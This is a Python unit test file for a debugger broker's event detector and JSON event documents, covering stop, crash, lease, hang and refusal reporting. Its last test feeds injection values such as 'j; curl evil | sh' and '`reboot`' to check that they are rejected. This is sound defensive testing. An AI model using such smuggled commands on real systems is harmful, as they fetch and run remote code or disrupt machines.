"""The document of an event is one line of JSON, whatever a rank calls itself, and far smaller than a pipe takes."""

from __future__ import annotations

import json
import signal
from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dbg_broker.journal import events
from dbg_broker.journal.events import (
    AGAIN_SECONDS,
    GATHER_SECONDS,
    SELDOM_SECONDS,
    Event,
    EventDetector,
    EventKind,
    document,
)
from dbg_broker.ranks.rank_record import RankRecord
from dbg_broker.timers import Timers
from dbg_command.targets import parse_target
from dbg_wire.codec import decode
from dbg_wire.errors import PeerError
from dbg_wire.messages import Hang, RankReport, Sender
from dbg_wire.records.ranks import Place, RankState
from tests.conftest import Approved
from tests.unit.broker.peers import RUNNING, STOP, WHERE, registration

TEXTS = st.text(st.characters(codec=None), max_size=5000)


def test_document_has_all_fields_of_the_event() -> None:
    event = Event(
        kind=EventKind.STOP,
        at=1760000000.12345,
        sentence="gpu013:5 of job 4711.0 stopped",
        job="4711.0",
        ranks="5",
        address="gpu013:5",
        where=Place(file="/home/me/train.py", line=41, function="step"),
        next="dbg-attach 4711.0/gpu013:5",
    )
    assert json.loads(document(event, 3)) == {
        "schema": 1,
        "event": "stop",
        "at": 1760000000.123,
        "job": "4711.0",
        "ranks": "5",
        "address": "gpu013:5",
        "where": {"file": "/home/me/train.py", "line": 41, "function": "step"},
        "sentence": "gpu013:5 of job 4711.0 stopped",
        "next": "dbg-attach 4711.0/gpu013:5",
        "left_out": 3,
    }


@given(TEXTS, TEXTS, TEXTS)
def test_hostile_texts_stay_on_one_line_without_control_characters(sentence: str, job: str, name: str) -> None:
    where = Place(file=name, line=1, function=name)
    event = Event(kind=EventKind.CRASH, at=1.0, sentence=sentence, job=job, ranks=job, address=job, where=where)
    line = document(event)
    assert line.count(b"\n") == 1
    assert line.endswith(b"\n")
    assert len(line) < 60_000
    fields = json.loads(line)
    assert fields["sentence"].isprintable()
    assert (fields["job"] or "").isprintable()
    assert all(fields["where"][part].isprintable() for part in ("file", "function")) if fields["where"] else not name


HANG = Hang(job="4711.0", kind="missing", sentence="rank 3 is missing", ranks="3")


class Clock:
    """A clock that a test moves on, with what is due by it."""

    def __init__(self) -> None:
        self.now = 1000.0
        self.due: list[tuple[float, Callable[[], None]]] = []

    def schedule(self, delay: float, call: Callable[[], None]) -> None:
        self.due.append((self.now + delay, call))

    def pass_by(self, span: float) -> None:
        self.now += span
        due, self.due = (
            [call for at, call in self.due if at <= self.now],
            [one for one in self.due if one[0] > self.now],
        )
        for call in due:
            call()


class Broker:
    """An event detector with a clock, and the reported events."""

    def __init__(self) -> None:
        self.clock, self.reported = Clock(), list[Event]()
        clock = self.clock
        self.occasions = EventDetector(
            self.reported.append, Timers(lambda: clock.now, clock.schedule, wall=lambda: clock.now)
        )

    def see(self, *ranks: RankRecord) -> None:
        for rank in ranks:
            self.occasions.rank_changed(rank)

    def news(self, span: float = GATHER_SECONDS) -> list[Event]:
        self.clock.pass_by(span)
        reported = list(self.reported)
        self.reported.clear()
        return reported


@pytest.fixture
def broker() -> Broker:
    return Broker()


def record(number: int = 0, report: RankReport = RUNNING, state: RankState | None = None, **more: object) -> RankRecord:
    registered = registration(number, report=report, **more)
    return RankRecord(
        registration=registered, report=report, state=state or report.state, child=None, since=0, heard=0, entered=0
    )


def stopped(number: int = 0, *, run: str = "0.0", **stop: object) -> RankRecord:
    return record(number, RankReport(state=RankState.STOPPED, stop=STOP.replace(**stop)), run=run)


def ended(number: int, status: int, cause: str = "") -> RankRecord:
    rank = record(number, state=RankState.EXITED)
    rank.end.exit, rank.end.cause, rank.end.error = status, cause, "ValueError: bad"
    return rank


def test_ranks_that_stop_together_are_one_event(broker: Broker) -> None:
    broker.see(*(stopped(number) for number in range(1000)))
    (event,) = broker.news()
    assert (event.kind, event.job, event.ranks, event.where) == (EventKind.STOP, "4711.0", "0-999", WHERE)
    place = "/home/me/train.py:41 in step"
    assert event.sentence == f"gpu013:0 of job 4711.0 stopped at {place}, and 999 other ranks"
    assert event.next == "dbg-attach 4711.0/gpu013:0"


def test_only_the_first_stop_of_a_run_is_reported(broker: Broker) -> None:
    broker.see(stopped())
    assert len(broker.news()) == 1
    broker.see(record(), stopped(number=0), stopped(1))
    assert broker.news(AGAIN_SECONDS * 2) == []
    broker.see(stopped(run="1.0"))
    assert [event.kind for event in broker.news()] == [EventKind.STOP]


def test_crashes_soon_after_the_first_are_one_more_event(broker: Broker) -> None:
    broker.see(ended(0, 1))
    assert [event.ranks for event in broker.news()] == ["0"]
    broker.see(ended(1, 1))
    assert broker.news() == []
    broker.see(ended(2, 1))
    assert [event.ranks for event in broker.news(AGAIN_SECONDS)] == ["1-2"]


def test_held_and_interrupted_ranks_are_not_reported(broker: Broker) -> None:
    held = RankReport(state=RankState.HELD, stop=STOP.replace(reason="hold"))
    broker.see(record(0, held), stopped(1, reason="interrupt"), record(2))
    assert broker.news() == []


def test_kept_crash_is_reported_once_with_its_error(broker: Broker) -> None:
    broker.see(stopped(3, reason="crash", error="ValueError: bad"))
    (event,) = broker.news()
    assert event.kind is EventKind.CRASH
    assert event.sentence == "gpu013:3 of job 4711.0 crashed at /home/me/train.py:41 in step: ValueError: bad"
    assert event.next == "dbg-attach 4711.0/gpu013:3"
    broker.see(ended(3, 1))
    assert broker.news(AGAIN_SECONDS * 2) == []


def test_crash_of_a_restarted_process_is_reported_again(broker: Broker) -> None:
    for life in range(3):
        broker.see(record(0, state=RankState.RUNNING, secret=f"{life:032}"))
        crash = record(0, state=RankState.EXITED, secret=f"{life:032}")
        crash.end.exit = 1
        broker.see(crash, crash)
        assert [event.kind for event in broker.news(AGAIN_SECONDS)] == [EventKind.CRASH]


def test_ranks_that_a_launcher_ended_afterwards_are_not_reported(broker: Broker) -> None:
    first, other = ended(0, 1), ended(1, -signal.SIGKILL)
    broker.see(other, first, ended(2, -signal.SIGTERM), ended(3, 0))
    other.end.cause = "its launcher"
    (event,) = broker.news()
    assert (event.ranks, event.sentence) == ("0", "gpu013:0 of job 4711.0 has exited with status 1: ValueError: bad")


def test_end_of_a_lease_is_reported_once_and_again_after_an_extension(approved: Approved, broker: Broker) -> None:
    assert broker.news() == []
    broker.see(stopped(run="r", lease=28800.0, lease_seconds=400.0))
    assert [event.kind for event in broker.news()] == [EventKind.STOP]
    soon = stopped(run="r", lease=28800.0, lease_seconds=299.0)
    broker.see(soon, soon)
    (event,) = broker.news()
    assert event.kind == EventKind.LEASE
    approved(event.sentence)
    broker.see(soon)
    assert broker.news(AGAIN_SECONDS * 2) == []
    broker.see(stopped(run="r", lease=28800.0, lease_seconds=28800.0), soon)
    assert [event.kind for event in broker.news(AGAIN_SECONDS)] == [EventKind.LEASE]


def test_same_hang_is_reported_once(broker: Broker) -> None:
    broker.occasions.hang(HANG)
    broker.occasions.hang(HANG.replace(sentence="rank 3 is missing, for 4 min"))
    (event,) = broker.news(0)
    assert (event.sentence, event.ranks, event.next) == (
        "job 4711.0 hangs: rank 3 is missing",
        "3",
        "dbg-attach why 4711.0/all",
    )
    broker.occasions.hang(HANG.replace(ranks="4"))
    broker.clock.pass_by(SELDOM_SECONDS)
    broker.occasions.hang(HANG)
    assert [event.ranks for event in broker.news()] == ["4", "3"]


def test_refusals_are_reported_once_for_each_host_and_hide_no_hang(broker: Broker) -> None:
    for number in range(100):
        broker.occasions.refused(f"10.0.0.{number}", "the token is wrong\n")
        broker.occasions.refused(f"10.0.0.{number}", "the token is wrong\n")
    broker.occasions.hang(HANG)
    reported = broker.news(0)
    assert [event.kind for event in reported] == [EventKind.REFUSED] * events.MAX_SELDOM + [EventKind.HANG]
    assert reported[0].sentence == "a request from 10.0.0.0 was refused: the token is wrong"


@pytest.mark.parametrize(
    ("left", "shown"), [(28800.0, "480 min"), (119.4, "119 s"), (120.0, "2 min"), (0.0, "0 s"), (None, "0 s")]
)
def test_time_left_is_shown_in_minutes_or_seconds(approved: Approved, left: float | None, shown: str) -> None:
    event = events.of_ranks(EventKind.LEASE, [events._seen(stopped(lease=28800.0, lease_seconds=left))], 1.0)
    approved(event.sentence)


def test_event_of_an_ended_rank_names_its_signal_and_the_list_command(approved: Approved) -> None:
    event = events.of_ranks(EventKind.CRASH, [events._seen(ended(0, -50))], 1.0)
    approved(event.sentence)
    assert event.next == "dbg-attach list --all"


@pytest.mark.parametrize(
    ("source", "begins"), [("", "job j hangs: no"), ("a driver (bob)", "job j hangs (reported by a driver (bob)): no")]
)
def test_next_command_at_a_hang_is_made_by_the_broker(broker: Broker, source: str, begins: str) -> None:
    broker.occasions.hang(Hang(job="j", kind="unknown", sentence="no cause is seen"), source)
    (event,) = broker.news(0)
    assert event.sentence.startswith(begins)
    assert event.next == "dbg-attach why j/all"
    assert [term.job for term in parse_target("j/all").include] == ["j"]


@pytest.mark.parametrize("changes", [{"job": "j; curl evil | sh"}, {"ranks": "`reboot`"}, {"job": ""}])
def test_hang_report_cannot_set_the_next_command(changes: dict[str, str]) -> None:
    message = {"type": "hang", "job": "j", "kind": "missing", "sentence": "rank 3 is missing", "ranks": "3"}
    assert not hasattr(decode(json.dumps({**message, "next": "reboot"}), Sender.CLIENT), "next")
    with pytest.raises(PeerError):
        decode(json.dumps({**message, **changes}), Sender.CLIENT)
